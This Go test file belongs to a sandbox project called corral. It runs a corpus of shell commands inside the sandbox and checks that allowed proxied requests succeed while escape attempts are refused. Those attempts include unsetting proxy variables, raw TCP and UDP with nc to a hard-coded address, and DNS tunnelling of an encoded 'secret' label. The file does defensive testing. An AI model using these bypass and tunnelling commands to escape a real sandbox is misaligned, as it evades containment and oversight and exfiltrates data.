package egresstest

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/corral-dev/corral/backend/sandbox"
)

// Case is one attempt of the corpus: a shell command run in the sandbox
// (busybox applets only, plus the corpus client at ./egress-client), and
// whether it must get through.
type Case struct {
	Name    string
	Command string
	// Want is text the output must hold when the attempt must succeed; ""
	// means it must fail.
	Want string
}

// Cases are the corpus's attempts against s, whose servers the sandbox
// must reach (if at all) only as made-up names through the proxy. direct
// is the address a bypass aims at: s.IP as the sandbox would reach it.
func (s *Servers) Cases(direct string) []Case {
	hp, tp := s.HTTPPort(), s.TLSPort()
	noProxy := "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY "
	viaProxy := "env -u no_proxy -u NO_PROXY "
	return []Case{
		{Name: "allowed host over HTTP", Command: "wget -q -O- http://" + Allowed + ":" + hp + "/", Want: "hello from " + Allowed},
		{Name: "allowed host over HTTPS (CONNECT)", Command: "./egress-client https://" + Secure + ":" + tp + "/", Want: "hello over TLS from " + Secure},
		{Name: "disallowed host", Command: "wget -q -O- http://" + Denied + ":" + hp + "/"},
		{Name: "disallowed host over CONNECT", Command: "./egress-client https://" + Denied + ":" + tp + "/"},
		{Name: "allowed CONNECT host with another TLS server name", Command: "./egress-client -sni " + Denied + " https://" + Secure + ":" + tp + "/"},
		{Name: "raw IP through the proxy", Command: viaProxy + "wget -q -O- http://" + direct + ":" + hp + "/"},
		{Name: "redirect to a disallowed host", Command: "wget -q -O- http://" + Redirect + ":" + hp + "/"},
		{Name: "bypass: HTTP to a hard-coded address", Command: noProxy + "wget -q -O- http://" + direct + ":" + hp + "/"},
		{Name: "bypass: raw TCP to a hard-coded address", Command: "echo x | nc -w 3 " + direct + " " + s.RawPort() + " && echo connected"},
		{Name: "UDP to a hard-coded address", Command: "for i in 1 2 3; do echo x | nc -u -w 1 " + direct + " " + s.UDPPort() + "; done; exit 1"},
		{Name: "DNS tunnelling to a hard-coded resolver", Command: "nslookup c2VjcmV0.tunnel.test " + direct + ":" + s.UDPPort()},
		{Name: "DNS through the sandbox's own resolver", Command: "nslookup " + Allowed},
		{Name: "IPv6 through the proxy", Command: viaProxy + "wget -q -O- http://[::1]:" + hp + "/"},
		{Name: "IPv6 direct", Command: noProxy + "wget -q -O- http://[::1]:" + hp + "/"},
	}
}

// Run runs the corpus in sb and fails t for every attempt that got
// through when it must not (or not when it must), and for anything that
// reached a server it must not have.
func (s *Servers) Run(t *testing.T, sb sandbox.Sandbox, direct string) {
	t.Helper()
	bin, err := os.ReadFile(ClientBinary(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := sb.Files().WriteFile("egress-client", bin, 0o755); err != nil {
		t.Fatalf("write the client into the sandbox: %v", err)
	}
	before := s.Total()
	for _, tc := range s.Cases(direct) {
		t.Run(tc.Name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			res, err := sb.Exec(ctx, sandbox.ExecRequest{Command: tc.Command, Timeout: 20 * time.Second})
			if err != nil {
				t.Fatalf("Exec(%q): %v", tc.Command, err)
			}
			out := res.Stdout + res.Stderr
			switch {
			case tc.Want != "" && (res.ExitCode != 0 || !strings.Contains(res.Stdout, tc.Want)):
				t.Errorf("%q = exit %d, %q; want %q", tc.Command, res.ExitCode, out, tc.Want)
			case tc.Want == "" && res.ExitCode == 0:
				t.Errorf("%q = exit 0, %q; want it refused", tc.Command, out)
			}
		})
	}
	// Only the allowed attempts may have reached a server: allowed.test,
	// secure.test and the redirect's first hop, once each.
	if n := s.Total() - before; n != 3 {
		t.Errorf("%d requests reached the servers, want 3 (allowed, secure, redirect): %v", n, s.hitsList())
	}
	if n := s.Hits(Denied); n != 0 {
		t.Errorf("%d requests reached %s", n, Denied)
	}
	if n := s.RawConns.Load(); n != 0 {
		t.Errorf("%d raw TCP connections reached the bypass listener", n)
	}
	if n := s.Datagrams.Load(); n != 0 {
		t.Errorf("%d datagrams (UDP, DNS) reached the host", n)
	}
}

var (
	buildMu sync.Mutex
	built   = map[string]string{}
)

// ClientBinary builds the corpus client (static, linux/GOARCH) once per
// test process and returns its path.
func ClientBinary(t testing.TB) string { return static(t, "./client") }

// Launcher builds cmd/corral-sandbox-init static once per test process and
// returns its path: the Docker sandbox's egress forwarder.
func Launcher(t testing.TB) string { return static(t, "../../../cmd/corral-sandbox-init") }

// static builds the package pkg (relative to this directory) with CGO off
// for Linux, once per test process.
func static(t testing.TB, pkg string) string {
	t.Helper()
	buildMu.Lock()
	defer buildMu.Unlock()
	if p, ok := built[pkg]; ok {
		return p
	}
	dir, err := os.MkdirTemp("", "corral-egress-build-")
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, filepath.Base(pkg))
	_, self, _, _ := runtime.Caller(0)
	cmd := exec.Command("go", "build", "-o", out, pkg)
	cmd.Dir = filepath.Dir(self)
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux")
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build %s: %v\n%s", pkg, err, msg)
	}
	built[pkg] = out
	return out
}
